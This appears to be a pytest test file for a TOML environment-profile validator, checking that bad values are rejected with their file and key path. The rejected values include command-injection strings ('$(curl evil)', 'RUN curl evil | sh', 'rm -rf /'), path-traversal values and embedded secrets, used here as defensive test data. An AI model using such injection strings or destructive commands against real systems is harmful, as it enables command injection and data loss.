"""Hostile and broken profiles: every problem is reported, with its file and key path, exit 2."""

from __future__ import annotations

from pathlib import Path

import pytest
from cli_support import invoke

from envbuild.errors import Issue, ProfileError, UsageError
from envbuild.profile import load_profile

HEAD = 'name = "p"\nkind = "custom"\n'


def _issues(tmp_path: Path, text: str, *, head: str = HEAD) -> list[Issue]:
    path = tmp_path / "p.toml"
    path.write_text(head + text, encoding="utf-8")
    with pytest.raises(ProfileError) as info:
        load_profile(str(path))
    return list(info.value.issues)


# (TOML after a valid head, key path of the single issue, words the message must contain)
CASES: list[tuple[str, str, str]] = [
    ("bogus = 1\n", "bogus", "valid keys"),
    ('[pyhton]\nversion = "3.11"\n', "pyhton", "did you mean 'python'"),
    ('[python]\nverison = "3.11"\n', "python.verison", "did you mean 'version'"),
    ("[python]\nversion = 3.11\n", "python.version", "must be a string"),
    ('[python]\nversion = "3"\n', "python.version", "MAJOR.MINOR"),
    ('[python]\npackages = "numpy"\n', "python.packages", "list of strings"),
    ('[python]\npackages = ["numpy==", "ok"]\n', "python.packages[0]", "PEP 508"),
    ('[python]\npackages = ["-e ."]\n', "python.packages[0]", "option"),
    ('[python]\npackages = ["x @ file:///etc/passwd"]\n', "python.packages[0]", "local path"),
    ('[python]\npackages = ["x==${TOKEN}"]\n', "python.packages[0]", "${VAR}"),
    ('[python]\nrequirements = ["../reqs.txt"]\n', "python.requirements[0]", "'..'"),
    ('[python]\nrequirements = ["/etc/passwd"]\n', "python.requirements[0]", "absolute"),
    ('[python]\nrequirements = ["~/reqs.txt"]\n', "python.requirements[0]", "home directory"),
    ('[python]\nrequirements = ["missing.txt"]\n', "python.requirements[0]", "does not exist"),
    ('[python]\nrequirements = ["a\\u0000b"]\n', "python.requirements[0]", "control characters"),
    ('kind2 = "x"\n', "kind2", "did you mean 'kind'"),
    ('[base]\nos = "ubuntu26.04"\n', "base.os", "valid: debian12, ubuntu22.04, ubuntu24.04"),
    (
        '[base]\nimage = "ubuntu\\nRUN curl evil | sh"\n',
        "base.image",
        "not a Docker image reference (control or non-ASCII",
    ),
    ('[base]\nimage = "Ubuntu:24.04"\n', "base.image", "Docker image reference"),
    ('[base]\nimage = "ubuntu:24.04; rm -rf /"\n', "base.image", "Docker image reference"),
    ('[base]\nimage = "ubuntu:24.04\\n"\n', "base.image", "image reference"),
    ('[accelerator]\nbackend = "cdua"\n', "accelerator.backend", "did you mean 'cuda'"),
    ('[accelerator]\nversion = "twelve"\n', "accelerator.version", "MAJOR.MINOR"),
    ('[accelerator]\ntargets = ["H100"]\n', "accelerator.targets[0]", "card id"),
    ('[accelerator]\ntargets = "h100"\n', "accelerator.targets", "list of strings"),
    ('[torch]\nversion = "2.7.1+cu128"\n', "torch.version", "local tag"),
    ('[torch]\nversion = "latest"\n', "torch.version", "PEP 440"),
    ('[torch]\npackages = ["torchvision @ https://x.example/tv.whl"]\n', "torch.packages[0]", "not URLs"),
    (
        '[blender]\ndevices = ["OPTIX", "METAL"]\n',
        "blender.devices[1]",
        "valid: CPU, CUDA, HIP, ONEAPI, OPTIX",
    ),
    ('[blender]\nversion = "4.5.3; rm"\n', "blender.version", "Blender version"),
    ('[system]\napt = ["git; rm -rf /"]\n', "system.apt[0]", "Debian package name"),
    ('[system]\napt = ["git", "$(curl evil)"]\n', "system.apt[1]", "Debian package name"),
    ('[system]\napt = ["git=2.39 && evil"]\n', "system.apt[0]", "invalid version"),
    ('[system]\napt = ["Git"]\n', "system.apt[0]", "Debian package name"),
    ('[env]\nX = "a\\nRUN evil"\n', "env.X", "newlines"),
    ('[env]\nX = "a\\u0000b"\n', "env.X", "newlines"),
    ('[env]\n"BAD-KEY" = "1"\n', "env.BAD-KEY", "variable name"),
    ('[env]\n"A B" = "1"\n', "env.'A B'", "variable name"),
    ('[env]\nHF_TOKEN = "x"\n', "env.HF_TOKEN", "provide secrets at run time, never in the profile"),
    ('[env]\nAWS_SECRET_ACCESS_KEY = "x"\n', "env.AWS_SECRET_ACCESS_KEY", "provide secrets at run time"),
    ('[env]\nWANDB_API_KEY = "x"\n', "env.WANDB_API_KEY", "provide secrets at run time"),
    ('[env]\nDB_PASSWORD = "x"\n', "env.DB_PASSWORD", "provide secrets at run time"),
    ('[env]\nGITHUB_AUTH = "x"\n', "env.GITHUB_AUTH", "provide secrets at run time"),
    ('[env]\nGOOGLE_APPLICATION_CREDENTIALS = "/k.json"\n', "env.GOOGLE_APPLICATION_CREDENTIALS", "secret"),
    ('[env]\nSSH_PRIVATE_KEY = "x"\n', "env.SSH_PRIVATE_KEY", "provide secrets at run time"),
    ('[env]\nREPO = "https://bob:hunter2@git.example/r"\n', "env.REPO", "password"),
    ('[env]\nMY_VAR = "hf_abcdefghijklmnopqrstuvwxyzABCDEFGH"\n', "env.MY_VAR", "access token"),
    ('[env]\nLD_PRELOAD = "/tmp/x.so"\n', "env.LD_PRELOAD", "reserved"),
    ('[env]\nPATH = "/tmp"\n', "env.PATH", "reserved"),
    ('[env]\nCUDA_VISIBLE_DEVICES = "0"\n', "env.CUDA_VISIBLE_DEVICES", "run time"),
    ('[env]\nENVBUILD_X = "1"\n', "env.ENVBUILD_X", "reserved"),
    ("[env]\nN = 4\n", "env.N", "must be a string"),
    ('env = "x"\n', "env", "table"),
    ("[resources]\ngpus = 0\n", "resources.gpus", ">= 1"),
    ("[resources]\ngpus = true\n", "resources.gpus", "integer"),
    ("[resources]\ngpus = 1.5\n", "resources.gpus", "integer"),
    ("[resources]\ngpu_memory_gib = 0\n", "resources.gpu_memory_gib", "> 0"),
    ("[resources]\ngpu_memory_gib = -4\n", "resources.gpu_memory_gib", "> 0"),
    ('[resources]\ngpu_memory_gib = "40"\n', "resources.gpu_memory_gib", "number"),
    ("[resources]\ngpu_memory_gib = nan\n", "resources.gpu_memory_gib", "> 0"),
    ("[resources]\ngpu_memory_gib = inf\n", "resources.gpu_memory_gib", "<= 16384"),
    ('[python]\npackages = ["x @ https://[::1/x.whl"]\n', "python.packages[0]", "malformed"),
    ('[validate]\nextensions = ["flash-attn"]\n', "validate.extensions[0]", "module name"),
    ('[validate]\ncompile_extensions = "yes"\n', "validate.compile_extensions", "true or false"),
    ('[validate]\ncheckpoint_dir = "/tmp/ck"\n', "validate.checkpoint_dir", "absolute"),
    ('[app]\nsource = "../elsewhere"\n', "app.source", "'..'"),
    ('[app]\nsource = "nope"\n', "app.source", "does not exist"),
    ('[[checks]]\nname = "pilot"\nrun = "python pilot.py"\n', "checks[0].run", "list of strings"),
    ('[[checks]]\nname = "pilot"\nrun = []\n', "checks[0].run", "non-empty argv"),
    ('[[checks]]\nname = "pilot"\n', "checks[0].run", "is required"),
    ('[[checks]]\nrun = ["true"]\n', "checks[0].name", "is required"),
    ('[[checks]]\nname = "Pilot Run"\nrun = ["true"]\n', "checks[0].name", "check name"),
    ('[[checks]]\nname = "p"\nrun = ["true"]\ntimeout_s = 0\n', "checks[0].timeout_s", ">= 1"),
    ('[[checks]]\nname = "p"\nrun = ["true"]\ntimeout_s = 86401\n', "checks[0].timeout_s", "<= 86400"),
    (
        '[[checks]]\nname = "p"\nrun = ["true"]\nexpect_files = ["../../etc/shadow"]\n',
        "checks[0].expect_files[0]",
        "'..'",
    ),
    (
        '[[checks]]\nname = "p"\nrun = ["true"]\nexpect_json = {"/etc/x.json:a" = 1}\n',
        "checks[0].expect_json.'/etc/x.json:a'",
        "absolute",
    ),
    (
        '[[checks]]\nname = "p"\nrun = ["true"]\nexpect_json = {"s.json" = 1}\n',
        "checks[0].expect_json.'s.json'",
        "FILE.json:dotted.key",
    ),
    ('[[checks]]\nname = "p"\nrun = ["true"]\nshell = "x"\n', "checks[0].shell", "valid keys"),
    (
        '[[checks]]\nname = "p"\nrun = ["true"]\n[[checks]]\nname = "p"\nrun = ["false"]\n',
        "checks[1].name",
        "duplicate",
    ),
    ('checks = "x"\n', "checks", "array of tables"),
    (
        '[[checks]]\nname = "p"\nrun = ["true"]\nexpect_json = {"s.json:a" = 2026-01-01}\n',
        "checks[0].expect_json.'s.json:a'",
        "string, number or boolean",
    ),
    ('extends = "pytorh"\n', "extends", "did you mean 'pytorch'"),
    ('extends = "/etc/passwd.toml"\n', "extends", "absolute"),
    ('extends = "../up.toml"\n', "extends", "'..'"),
    ('description = "two\\nlines"\n', "description", "newlines"),
]


@pytest.mark.parametrize(("text", "key", "needle"), CASES, ids=[c[1] + ":" + c[2][:20] for c in CASES])
def test_each_bad_value_is_one_issue_with_file_and_key(
    tmp_path: Path, text: str, key: str, needle: str
) -> None:
    issues = _issues(tmp_path, text)
    assert [(i.file, i.key) for i in issues] == [(str(tmp_path / "p.toml"), key)], issues
    assert needle in issues[0].message


@pytest.mark.parametrize(
    ("head", "key", "needle"),
    [
        ('name = "Train LLM"\nkind = "custom"\n', "name", "valid profile name"),
        ('name = "' + "a" * 65 + '"\nkind = "custom"\n', "name", "at most 64"),
        ('name = "x\\ny"\nkind = "custom"\n', "name", "valid profile name"),
        ('name = "p"\nkind = "tensorflow"\n', "kind", "valid: blender, custom, pytorch, ubuntu"),
        ('name = "p"\n', "kind", "is required"),
        ('kind = "custom"\n', "name", "is required"),
    ],
)
def test_name_and_kind(tmp_path: Path, head: str, key: str, needle: str) -> None:
    issues = _issues(tmp_path, "", head=head)
    assert [i.key for i in issues] == [key]
    assert needle in issues[0].message


def test_several_errors_are_reported_together(tmp_path: Path) -> None:
    text = (
        'kind = "tensorflow"\n'
        '[python]\nversion = "three"\npackages = ["ok==1", "bad=="]\n'
        '[system]\napt = ["git; rm -rf /"]\n'
        '[env]\nHF_TOKEN = "hf_x"\nY = "a\\nb"\n'
        '[[checks]]\nname = "p"\nrun = []\n'
        "nonsense = 1\n"
    )
    issues = _issues(tmp_path, text, head='name = "p"\n')
    assert sorted(i.key for i in issues) == sorted(
        [
            "kind",
            "python.version",
            "python.packages[1]",
            "system.apt[0]",
            "env.HF_TOKEN",
            "env.Y",
            "checks[0].run",
            "checks[0].nonsense",
        ]
    )
    message = str(ProfileError(issues))
    assert message.startswith("invalid profile (8 problems):")


def test_invalid_toml_names_file_and_position(tmp_path: Path) -> None:
    issues = _issues(tmp_path, "[python\nversion = 1\n")
    assert len(issues) == 1 and "not valid TOML" in issues[0].message and "line 3" in issues[0].message


def test_symlinked_requirements_escaping_folder(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("numpy\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "reqs.txt").symlink_to(secret)
    path = project / "p.toml"
    path.write_text(HEAD + '[python]\nrequirements = ["reqs.txt"]\n')
    with pytest.raises(ProfileError) as info:
        load_profile(str(path))
    assert [i.key for i in info.value.issues] == ["python.requirements[0]"]
    assert "outside the profile's folder" in info.value.issues[0].message


def test_symlinked_app_folder_escaping(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    project = tmp_path / "project"
    project.mkdir()
    (project / "app").symlink_to(tmp_path / "elsewhere")
    (project / "p.toml").write_text(HEAD + '[app]\nsource = "app"\n')
    with pytest.raises(ProfileError, match=r"app\.source: 'app' resolves outside"):
        load_profile(str(project / "p.toml"))


def test_requirements_that_is_a_folder(tmp_path: Path) -> None:
    (tmp_path / "reqs").mkdir()
    issues = _issues(tmp_path, '[python]\nrequirements = ["reqs"]\n')
    assert "not a regular file" in issues[0].message


def test_missing_profile_is_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="did you mean 'pytorch'"):
        load_profile("pytorh")
    with pytest.raises(UsageError, match="no such profile file"):
        load_profile("/nonexistent/x.toml")
    (tmp_path / "folder.toml").mkdir()
    with pytest.raises(UsageError, match=r"folder\.toml: is a folder, not a profile file"):
        load_profile(str(tmp_path / "folder.toml"))


def test_safe_lookalikes_are_accepted(tmp_path: Path) -> None:
    """Names that merely resemble secrets or reserved keys must not be refused."""
    path = tmp_path / "p.toml"
    path.write_text(
        HEAD
        + '[env]\nTOKENIZERS_PARALLELISM = "false"\nGIT_AUTHOR_NAME = "Ada"\nPYTHONPATH = "/workspace/src"\n'
        'LD_LIBRARY_PATH = "/opt/lib"\nPASSAGE_COUNT = "3"\n'
        '[base]\nimage = "registry.example.com:5000/team/cuda_base-x:12.8.1-devel@sha256:' + "a" * 64 + '"\n'
        '[system]\napt = ["libstdc++6", "python3.11-venv", "git=1:2.39.5-0+deb12u2"]\n'
    )
    profile = load_profile(str(path))
    assert profile.env["TOKENIZERS_PARALLELISM"] == "false"
    assert profile.system.apt == ("libstdc++6", "python3.11-venv", "git=1:2.39.5-0+deb12u2")
    assert profile.base.image is not None and profile.base.image.startswith("registry.example.com:5000/")


def test_cli_error_path_exits_2_with_file_and_key_and_no_traceback(tmp_path: Path) -> None:
    """The error path a user sees: `check` (wrapped in handle_errors) exits 2, naming file and key."""
    path = tmp_path / "p.toml"
    path.write_text(HEAD + '[system]\napt = ["git; rm -rf /"]\n[env]\nX = "a\\nRUN evil"\n')
    result = invoke(["check", str(path)])
    assert result.exit_code == 2
    assert "Traceback" not in result.output and result.exception is None
    assert f"{path}: system.apt[0]:" in result.output
    assert f"{path}: env.X:" in result.output


def test_file_too_large_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "p.toml"
    with open(path, "wb") as handle:
        handle.write(HEAD.encode())
        handle.seek(5 * 1024 * 1024)
        handle.write(b"\n")
    with pytest.raises(ProfileError, match="too large"):
        load_profile(str(path))
